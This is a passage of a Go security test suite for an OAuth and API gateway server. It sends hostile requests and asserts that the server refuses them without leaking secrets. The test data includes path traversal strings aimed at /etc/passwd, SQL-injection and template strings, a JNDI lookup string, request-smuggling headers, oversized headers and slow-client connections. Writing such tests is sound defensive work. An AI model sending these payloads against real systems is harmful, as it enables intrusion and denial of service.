		h.refused("duplicate: "+c.name, http.MethodPost, c.path, res)
	}
	// The check endpoint: repeated credentials and repeated gateway headers.
	for _, header := range [][]string{
		{"Authorization", "Bearer " + h.tok, "Authorization", "Bearer " + h.tok},
		{"Authorization", "Bearer " + h.tok, "X-API-Key", h.key},
		{"X-API-Key", h.key, "X-API-Key", h.key},
		{"Authorization", "Bearer " + h.tok, "X-Tollgate-Account", strconv.FormatInt(f.other.ID, 10), "X-Tollgate-Account", strconv.FormatInt(f.root.ID, 10)},
		{"Authorization", "Bearer " + h.tok, "X-Tollgate-Scope", "read", "X-Tollgate-Scope", "admin"},
		{"Authorization", "Bearer " + h.tok, "X-Tollgate-Rate-Class", "reports", "X-Tollgate-Rate-Class", "default"},
		{"Authorization", "Bearer " + h.tok, "X-Tollgate-Cost", "1", "X-Tollgate-Cost", "1000"},
	} {
		res := h.do(http.MethodGet, "/auth/check", "", header...)
		h.refused("check with repeated headers", http.MethodGet, "/auth/check", res)
	}
	// Absurd costs: out of range, not decimal, overflowing.
	for _, cost := range []string{"0", "-1", "1000001", "9223372036854775807", "9223372036854775808", "1e9", "0x10", "+1", "01", "1_000", "١"} {
		res := h.do(http.MethodGet, "/auth/check", "", "Authorization", "Bearer "+h.tok, "X-Tollgate-Cost", cost)
		h.refused("check cost "+cost, http.MethodGet, "/auth/check", res)
		if res.status != http.StatusBadRequest {
			h.t.Errorf("cost %q: status %d, want 400", cost, res.status)
		}
	}
	// The management API: repeated Authorization and query parameters.
	for _, r := range routes {
		if !r.isAPI() {
			continue
		}
		res := h.do(r.method, r.path, "", "Authorization", "Bearer "+h.admin, "Authorization", "Bearer "+h.admin)
		h.refused("Authorization twice", r.method, r.path, res)
		if r.method == http.MethodGet {
			p := r.path + "?limit=1&limit=100"
			h.refused("limit twice", r.method, p, h.do(r.method, p, "", h.auth(r)...))
		}
	}
}

// oauthParams are the parameters each OAuth endpoint reads, with the
// valid-looking request each hostile value is put into.
func (h *hostile) oauthInjections() {
	f := h.f
	cc := basic(f.cc.ID, f.secretOf[f.cc.ID])
	dsp := basic(f.dsp.ID, f.secretOf[f.dsp.ID])
	rs := basic(f.rs.ID, f.secretOf[f.rs.ID])
	cases := []struct {
		path   string
		base   map[string]string
		params []string
		header []string
	}{
		{server.PathToken, map[string]string{"grant_type": "client_credentials"},
			[]string{"grant_type", "scope", "client_id", "client_assertion", "client_assertion_type"}, []string{"Authorization", cc}},
		// Parameters the endpoint ignores (RFC 6749 §3.2), with a wrong
		// secret: still decoded, never a token.
		{server.PathToken, map[string]string{"grant_type": "client_credentials"},
			[]string{"audience", "resource", "token_type_hint", "redirect_uri", "state"}, []string{"Authorization", basic(f.cc.ID, typo(f.secretOf[f.cc.ID]))}},
		{server.PathToken, map[string]string{"grant_type": "client_credentials", "client_id": strconv.FormatInt(f.cc.ID, 10)},
			[]string{"client_secret", "client_id"}, nil},
		{server.PathToken, map[string]string{"grant_type": "eskimi_dsp", "username": "bob", "password": testPassword},
			[]string{"username", "password", "scope"}, []string{"Authorization", dsp}},
		{server.PathIntrospect, map[string]string{"token": "x"}, []string{"token", "token_type_hint", "client_id"}, []string{"Authorization", rs}},
		{server.PathIntrospect, map[string]string{"token": "x", "client_id": strconv.FormatInt(f.rs.ID, 10)}, []string{"client_secret"}, nil},
		{server.PathRevoke, map[string]string{"token": "x"}, []string{"token", "token_type_hint"}, []string{"Authorization", rs}},
		{server.PathKeySession, map[string]string{}, []string{"lifetime", "scope", "client_id"}, []string{"X-API-Key", h.key}},
		{server.PathKeySession, map[string]string{}, []string{"client_secret"}, nil},
	}
	for _, c := range cases {
		for _, param := range c.params {
			for _, inj := range injections {
				values := map[string]string{}
				for k, v := range c.base {
					values[k] = v
				}
				values[param] = inj
				kv := []string{}
				for k, v := range values {
					kv = append(kv, k, v)
				}
				res := h.do(http.MethodPost, c.path, form(kv...), append([]string{"Content-Type", formCT}, c.header...)...)
				h.refused("form "+param+"="+inj, http.MethodPost, c.path, res)
				if c.path == server.PathToken || c.path == server.PathKeySession {
					b, _ := json.Marshal(values)
					res := h.do(http.MethodPost, c.path, string(b), append([]string{"Content-Type", "application/json"}, c.header...)...)
					h.refused("JSON "+param+"="+inj, http.MethodPost, c.path, res)
				}
			}
		}
	}
}

func (h *hostile) headerInjections(routes []route) {
	for _, inj := range injections {
		if strings.ContainsAny(inj, "\r\n\x00") {
			continue // not a header value a client can send; see unparseable
		}
		credentials := [][]string{
			{"Authorization", "Bearer " + inj},
			{"Authorization", "Basic " + inj},
			{"Authorization", basicRaw(inj, inj)},
			{"Authorization", inj},
			{"X-API-Key", inj},
			{"X-API-Key", apikey.Prefix + inj},
		}
		for _, r := range routes {
			for _, c := range credentials {
				if r.path == server.PathMetadata {
					continue
				}
				body, ct := "", ""
				if r.hasBody() && !r.isAPI() {
					body, ct = "grant_type=client_credentials&token=x", formCT
				}
				header := append([]string{}, c...)
				if ct != "" {
					header = append(header, "Content-Type", ct)
				}
				res := h.do(r.method, r.path, body, header...)
				h.refused("credential header "+c[0], r.method, r.path, res)
			}
		}
		// Gateway headers with a good credential.
		for _, name := range []string{"X-Tollgate-Scope", "X-Tollgate-Account", "X-Tollgate-Rate-Class", "X-Tollgate-Cost"} {
			res := h.do(http.MethodGet, "/auth/check", "", "Authorization", "Bearer "+h.tok, name, inj)
			h.refused("check "+name, http.MethodGet, "/auth/check", res)
		}
		// Headers nobody reads, and If-Match, on the API.
		res := h.do(http.MethodPatch, admin.Prefix+"/clients/"+strconv.FormatInt(h.client.ID, 10), `{"status":"disabled"}`,
			"Authorization", "Bearer "+h.admin, "Content-Type", "application/json", "If-Match", inj, "X-Request-Id", inj, "X-Forwarded-For", inj)
		h.refused("If-Match", http.MethodPatch, admin.Prefix+"/clients/{id}", res)
	}
}

func (h *hostile) queries(routes []route) {
	// Every one is wrong for limit (1 to 100); the first ones are right
	// for after (any id).
	values := []string{"0", "101", "1000000000", "-1", "1e9", "99999999999999999999999", "9223372036854775808",
		"-9223372036854775809", "abc", "1.5", "0x10", " 1", "%ff", "%00", "%zz", "' OR 1=1--", "{{.}}"}
	goodAfter := map[string]bool{"0": true, "101": true, "1000000000": true}
	for _, r := range routes {
		if !r.isAPI() || r.method != http.MethodGet {
			continue
		}
		list := !strings.HasSuffix(r.template, "{id}")
		for _, param := range []string{"limit", "after", "account_id", "owner_id", "status"} {
			for _, v := range values {
				if param == "after" && goodAfter[v] {
					continue
				}
				raw := v
				if !strings.HasPrefix(v, "%") {
					raw = url.QueryEscape(v)
				}
				p := r.path + "?" + param + "=" + raw
				res := h.do(r.method, p, "", h.auth(r)...)
				// Every value is wrong for the pagination of a list; on a
				// record, and for filters a list does not have, only the
				// undecodable ones are, and the others must not fail.
				if list && (param == "limit" || param == "after") || strings.HasPrefix(v, "%") {
					h.refused("query "+param+"="+v, r.method, p, res)
				} else if res.status >= 500 {
					h.t.Errorf("%s: status %d", p, res.status)
				}
			}
		}
		p := r.path + "?limit=1&after=" + strings.Repeat("9", 5000)
		if list {
			h.refused("long after", r.method, p, h.do(r.method, p, "", h.auth(r)...))
		}
		p = r.path + "?" + manyParams(1000)
		res := h.do(r.method, p, "", h.auth(r)...)
		if res.status >= 500 {
			h.t.Errorf("1000 unknown query parameters: status %d", res.status)
		}
	}
}

func (h *hostile) traversal() {
	bearer := "Bearer " + h.admin
	for _, p := range []string{
		"/api/v1/../../etc/passwd",
		"/api/v1/%2e%2e/%2e%2e/etc/passwd",
		"/api/v1/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
		"/api/v1/users/..%2f..%2f..%2fetc%2fpasswd",
		"/api/v1/users/%2e%2e/accounts/1",
		"/api/v1/users/1/../../accounts/1",
		"/api/v1/./users",
		"/api/v1//users",
		"/api/v1/users/1%00",
		"/api/v1/users/1;/../2",
		"/api/v1/users/%252e%252e/1",
		"/api/v1/users/..\\..\\etc\\passwd",
		"/api/v1/users/-1",
		"/api/v1/users/99999999999999999999999",
		"/api/v1/users/0x10",
		"/api/v1/users/1e3",
		"/api/v1/users/%ff",
		"/oauth/../api/v1/users",
		"/oauth/token/../../api/v1/users",
		"/.well-known/../oauth/token",
		"/./oauth/token",
		"//oauth/token",
		"/oauth//token",
		"/OAUTH/TOKEN",
	} {
		res := h.raw("GET " + p + " HTTP/1.1\r\nHost: tollgate\r\nAuthorization: " + bearer + "\r\nConnection: close\r\n\r\n")
		if res.status != http.StatusNotFound && res.status != http.StatusBadRequest {
			h.t.Errorf("GET %s: status %d, want 404 or 400 (Location %q, body %.200s)", p, res.status, res.header.Get("Location"), res.body)
		}
		if res.status == http.StatusBadRequest && strings.HasPrefix(res.header.Get("Content-Type"), "text/plain") {
			h.refusedByNetHTTP("GET "+p, res, http.StatusBadRequest)
			continue
		}
		h.refused("traversal", http.MethodGet, p, res)
	}
}

func (h *hostile) unknownPaths() {
	for _, p := range []string{"/", "/index.html", "/admin", "/api", "/api/v2/users", "/api/v1/nope", "/oauth/authorize",
		"/oauth/token.json", "/.env", "/.git/config", "/wp-login.php", "/debug/pprof/", "/metrics", "/healthz",
		"/" + strings.Repeat("a", 4000), "/%7B%7B.%7D%7D", "/$%7Bjndi:ldap://x/a%7D"} {
		res := h.do(http.MethodGet, p, "")
		if res.status != http.StatusNotFound {
			h.t.Errorf("GET %.60s: status %d, want 404", p, res.status)
		}
		h.refused("unknown path", http.MethodGet, p, res)
	}
}

func (h *hostile) hugeHeaders(routes []route) {
	limit := h.f.cfg.HTTP.MaxHeaderBytes
	for _, r := range routes {
		for _, header := range [][]string{
			{"X-Big", strings.Repeat("a", limit+8<<10)},
			{"Authorization", "Bearer " + strings.Repeat("a", limit+8<<10)},
			{"Cookie", strings.Repeat("c=1; ", (limit+8<<10)/5)},
		} {
			res, err := h.send(r.method, r.path, nil, header...)
			if err != nil {
				h.t.Errorf("%s %s with a %d-byte header: %v", r.method, r.path, len(header[1]), err)
				continue
			}
			h.refusedByNetHTTP(fmt.Sprintf("%s %s with a %d-byte %s header", r.method, r.path, len(header[1]), header[0]), res, http.StatusRequestHeaderFieldsTooLarge)
		}
	}
	// Many small headers.
	var b strings.Builder
	b.WriteString("GET /auth/check HTTP/1.1\r\nHost: tollgate\r\nConnection: close\r\n")
	for i := range 3000 {
		fmt.Fprintf(&b, "X-H%d: %d\r\n", i, i)
	}
	b.WriteString("\r\n")
	h.refusedByNetHTTP("3000 headers", h.raw(b.String()), http.StatusRequestHeaderFieldsTooLarge)
	// A header just under the cap is served (and refused for its content).
	res := h.do(http.MethodGet, "/auth/check", "", "Authorization", "Bearer "+strings.Repeat("a", limit/2))
	h.refused("large Bearer under the cap", http.MethodGet, "/auth/check", res)
}

// unparseable sends requests net/http itself refuses.
func (h *hostile) unparseable() {
	for _, req := range []string{
		"GET /auth/check HTTP/1.1\r\nHost: tollgate\r\nX-Bad: a\x00b\r\nConnection: close\r\n\r\n",
		"GET /auth/check HTTP/1.1\r\nHost: tollgate\r\nBad Header: x\r\nConnection: close\r\n\r\n",
		"GET /auth/check HTTP/1.1\r\nHost: tollgate\r\nHost: other\r\nConnection: close\r\n\r\n",
		"GET /auth/check HTTP/1.1\r\nConnection: close\r\n\r\n",
		"GET /auth/\x00check HTTP/1.1\r\nHost: tollgate\r\nConnection: close\r\n\r\n",
		"GET  HTTP/1.1\r\nHost: tollgate\r\nConnection: close\r\n\r\n",
		"POST /oauth/token HTTP/1.1\r\nHost: tollgate\r\nContent-Length: 5\r\nContent-Length: 6\r\nConnection: close\r\n\r\nabcdef",
		"POST /oauth/token HTTP/1.1\r\nHost: tollgate\r\nContent-Length: -1\r\nConnection: close\r\n\r\n",
		"POST /oauth/token HTTP/1.1\r\nHost: tollgate\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\nConnection: close\r\n\r\n0\r\n\r\n",
		"POST /oauth/token HTTP/1.1\r\nHost: tollgate\r\nTransfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
		"GET /auth/check HTTP/9.9\r\nHost: tollgate\r\nConnection: close\r\n\r\n",
	} {
		res := h.raw(req)
		if res.status < 400 || res.status >= 600 || res.status == http.StatusInternalServerError {
			h.t.Errorf("%q: status %d, want a 4xx (or net/http's 501/505)", firstLine(req), res.status)
		}
		h.noSecrets(firstLine(req), res.body)
	}
	// A chunked body with a bad chunk, past the headers: the handler sees
	// a read error and answers 400 in the protocol's format.
	res := h.raw("POST /oauth/token HTTP/1.1\r\nHost: tollgate\r\nContent-Type: " + formCT +
		"\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\nabc\r\n0\r\n\r\n")
	h.refused("bad chunk", http.MethodPost, server.PathToken, res)
}

// slowClients checks that connections that trickle their headers or body
// are cut off after the read timeouts, while other clients are served.
func (h *hostile) slowClients() {
	cfg := h.f.cfg.HTTP
	addr := h.srv.Listener.Addr().String()
	type result struct {
		name    string
		elapsed time.Duration
		limit   time.Duration
		err     error
	}
	// open counts the slow clients whose connection the server still holds;
	// connected is done once each has sent its head (or failed to).
	var open atomic.Int32
	var connected sync.WaitGroup
	trickle := func(name, head string, drip string, limit time.Duration) result {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			connected.Done()
			return result{name: name, err: err}
		}
		defer conn.Close()
		start := time.Now()
		if _, err := io.WriteString(conn, head); err != nil {
			connected.Done()
			return result{name: name, err: err}
		}
		open.Add(1)
		defer open.Add(-1)
		connected.Done()
		// Keep sending one byte every 100 ms; stop once the server has
		// closed the connection (a write fails or a read sees EOF).
		closed := make(chan struct{})
		go func() {
			defer close(closed)
			buf := make([]byte, 512)
			for {
				_ = conn.SetReadDeadline(time.Now().Add(limit + 5*time.Second))
				if _, err := conn.Read(buf); err != nil {
					return
				}
			}
		}()
		for i := 0; ; i++ {
			select {
			case <-closed:
				return result{name: name, elapsed: time.Since(start), limit: limit}
			case <-time.After(100 * time.Millisecond):
			}
			if _, err := conn.Write([]byte{drip[i%len(drip)]}); err != nil {
				<-closed
				return result{name: name, elapsed: time.Since(start), limit: limit}
			}
			if time.Since(start) > limit+5*time.Second {
				return result{name: name, elapsed: time.Since(start), limit: limit, err: fmt.Errorf("still open after %s", time.Since(start).Round(time.Millisecond))}
			}
		}
	}
	var wg sync.WaitGroup
	results := make(chan result, 16)
	for i := range 10 {
		wg.Add(1)
		connected.Add(1)
		go func() {
			defer wg.Done()
			results <- trickle(fmt.Sprintf("slow headers %d", i), "POST /oauth/token HTTP/1.1\r\nHost: tollgate\r\nX-Slow: ", "abcdefgh", cfg.ReadHeaderTimeout)
		}()
	}
	wg.Add(1)
	connected.Add(1)
	go func() {
		defer wg.Done()
		results <- trickle("slow body", "POST /oauth/token HTTP/1.1\r\nHost: tollgate\r\nContent-Type: "+formCT+
			"\r\nContent-Length: 100000\r\n\r\ngrant_type=", "a", cfg.ReadTimeout)
	}()
	// Meanwhile a normal client is served: its answer comes while slow
	// clients still hold connections, so they do not block it. This is an
	// order of events, not a wall-clock bound (it was "within 1 s"): a
	// server that served the slow clients first would answer only once the
	// read timeouts had closed them all.
	connected.Wait()
	start := time.Now()
	res := h.do(http.MethodGet, server.PathMetadata, "")
	if stillOpen := open.Load(); res.status != http.StatusOK || stillOpen == 0 {
		h.t.Errorf("metadata during the slow clients: status %d after %s with %d slow clients still connected, want 200 while at least one is",
			res.status, time.Since(start), stillOpen)
	}
	wg.Wait()
	close(results)
	for r := range results {
		switch {
		case r.err != nil:
			h.t.Errorf("%s: %v", r.name, r.err)
		case r.elapsed > r.limit+2*time.Second:
			h.t.Errorf("%s: closed after %s, want within %s of the %s timeout", r.name, r.elapsed.Round(time.Millisecond), 2*time.Second, r.limit)
		}
	}
}

// apiInjections puts every hostile string into every member of every
// documented request body. A value the API refuses changes nothing; a
// value it accepts is stored exactly as sent (it is data, never SQL or a
// template) and read back the same.
func (h *hostile) apiInjections(t *testing.T, routes []route) {
	bodies := openAPIBodies(t)
	var accepted, refused int
	defer func() { t.Logf("%d hostile values stored as data, %d refused", accepted, refused) }()
	for _, r := range routes {
		fields, ok := bodies[r.method+" "+r.template]
		if !ok {
			continue
		}
		names := slices.Sorted(func(yield func(string) bool) {
			for n := range fields {
				if !yield(n) {
					return
				}
			}
		})
		for _, name := range names {
			for _, inj := range fieldInjections {
				var value any = inj
				switch fields[name] {
				case "array":
					value = []string{inj}
				case "object":
					value = map[string]any{inj: map[string]int{"rate": 1, "burst": 1}}
				}
				body, err := json.Marshal(map[string]any{name: value})
				if err != nil {
					// Invalid UTF-8 cannot be marshalled: send it raw.
					body = []byte(`{"` + name + `":"` + inj + `"}`)
				}
				before := h.fingerprint()
				res := h.do(r.method, r.path, string(body), "Content-Type", "application/json", "Authorization", "Bearer "+h.admin)
				what := fmt.Sprintf("%s=%.40q", name, inj)
				if res.status >= 200 && res.status < 300 {
					// What the API got: json.Marshal sends invalid UTF-8
					// as U+FFFD.
					var sent map[string]any
					_ = json.Unmarshal(body, &sent)
					h.accepted(what, r, name, sent[name], res)
					accepted++
					continue
				}
				refused++
				h.refused(what, r.method, r.path, res)
				if after := h.fingerprint(); after != before {
					h.t.Errorf("%s %s %s: refused with %d, but the records changed: %s -> %s", r.method, r.template, what, res.status, before, after)
				}
			}
		}
	}
}

// accepted checks a hostile value the API took: a string member comes back
// exactly as sent, and a password signs in.
func (h *hostile) accepted(what string, r route, name string, sent any, res response) {
	h.t.Helper()
	h.securityHeaders(what, res)
	h.noSecrets(what, res.body)
	inj, _ := sent.(string)
	if name == "password" {
		login := h.f.admLogin(h.user.Username, inj)
		if login.status == http.StatusTooManyRequests {
			// The suite's failed sign-ins hold the source back: wait the
			// back-off out.
			h.f.clock.advance(h.f.cfg.BruteForce.MaxDelay + time.Second)
			login = h.f.admLogin(h.user.Username, inj)
		}
		if login.status != http.StatusOK {
			h.t.Errorf("%s %s %s: answered %d, but the password does not sign in: %d %s", r.method, r.path, what, res.status, login.status, login.body)
		} else {
			h.f.secrets = append(h.f.secrets, login.json(h.t)["access_token"].(string))
		}
	}
	if len(res.body) == 0 {
		return
	}
	var got map[string]any
	if err := json.Unmarshal(res.body, &got); err != nil {
		h.t.Errorf("%s %s %s: body %.200s: %v", r.method, r.path, what, res.body, err)
		return
	}
	if v, ok := got[name]; ok && v != strings.TrimSpace(inj) {
		h.t.Errorf("%s %s %s: stored %.60q, want it as sent", r.method, r.path, what, v)
	}
}
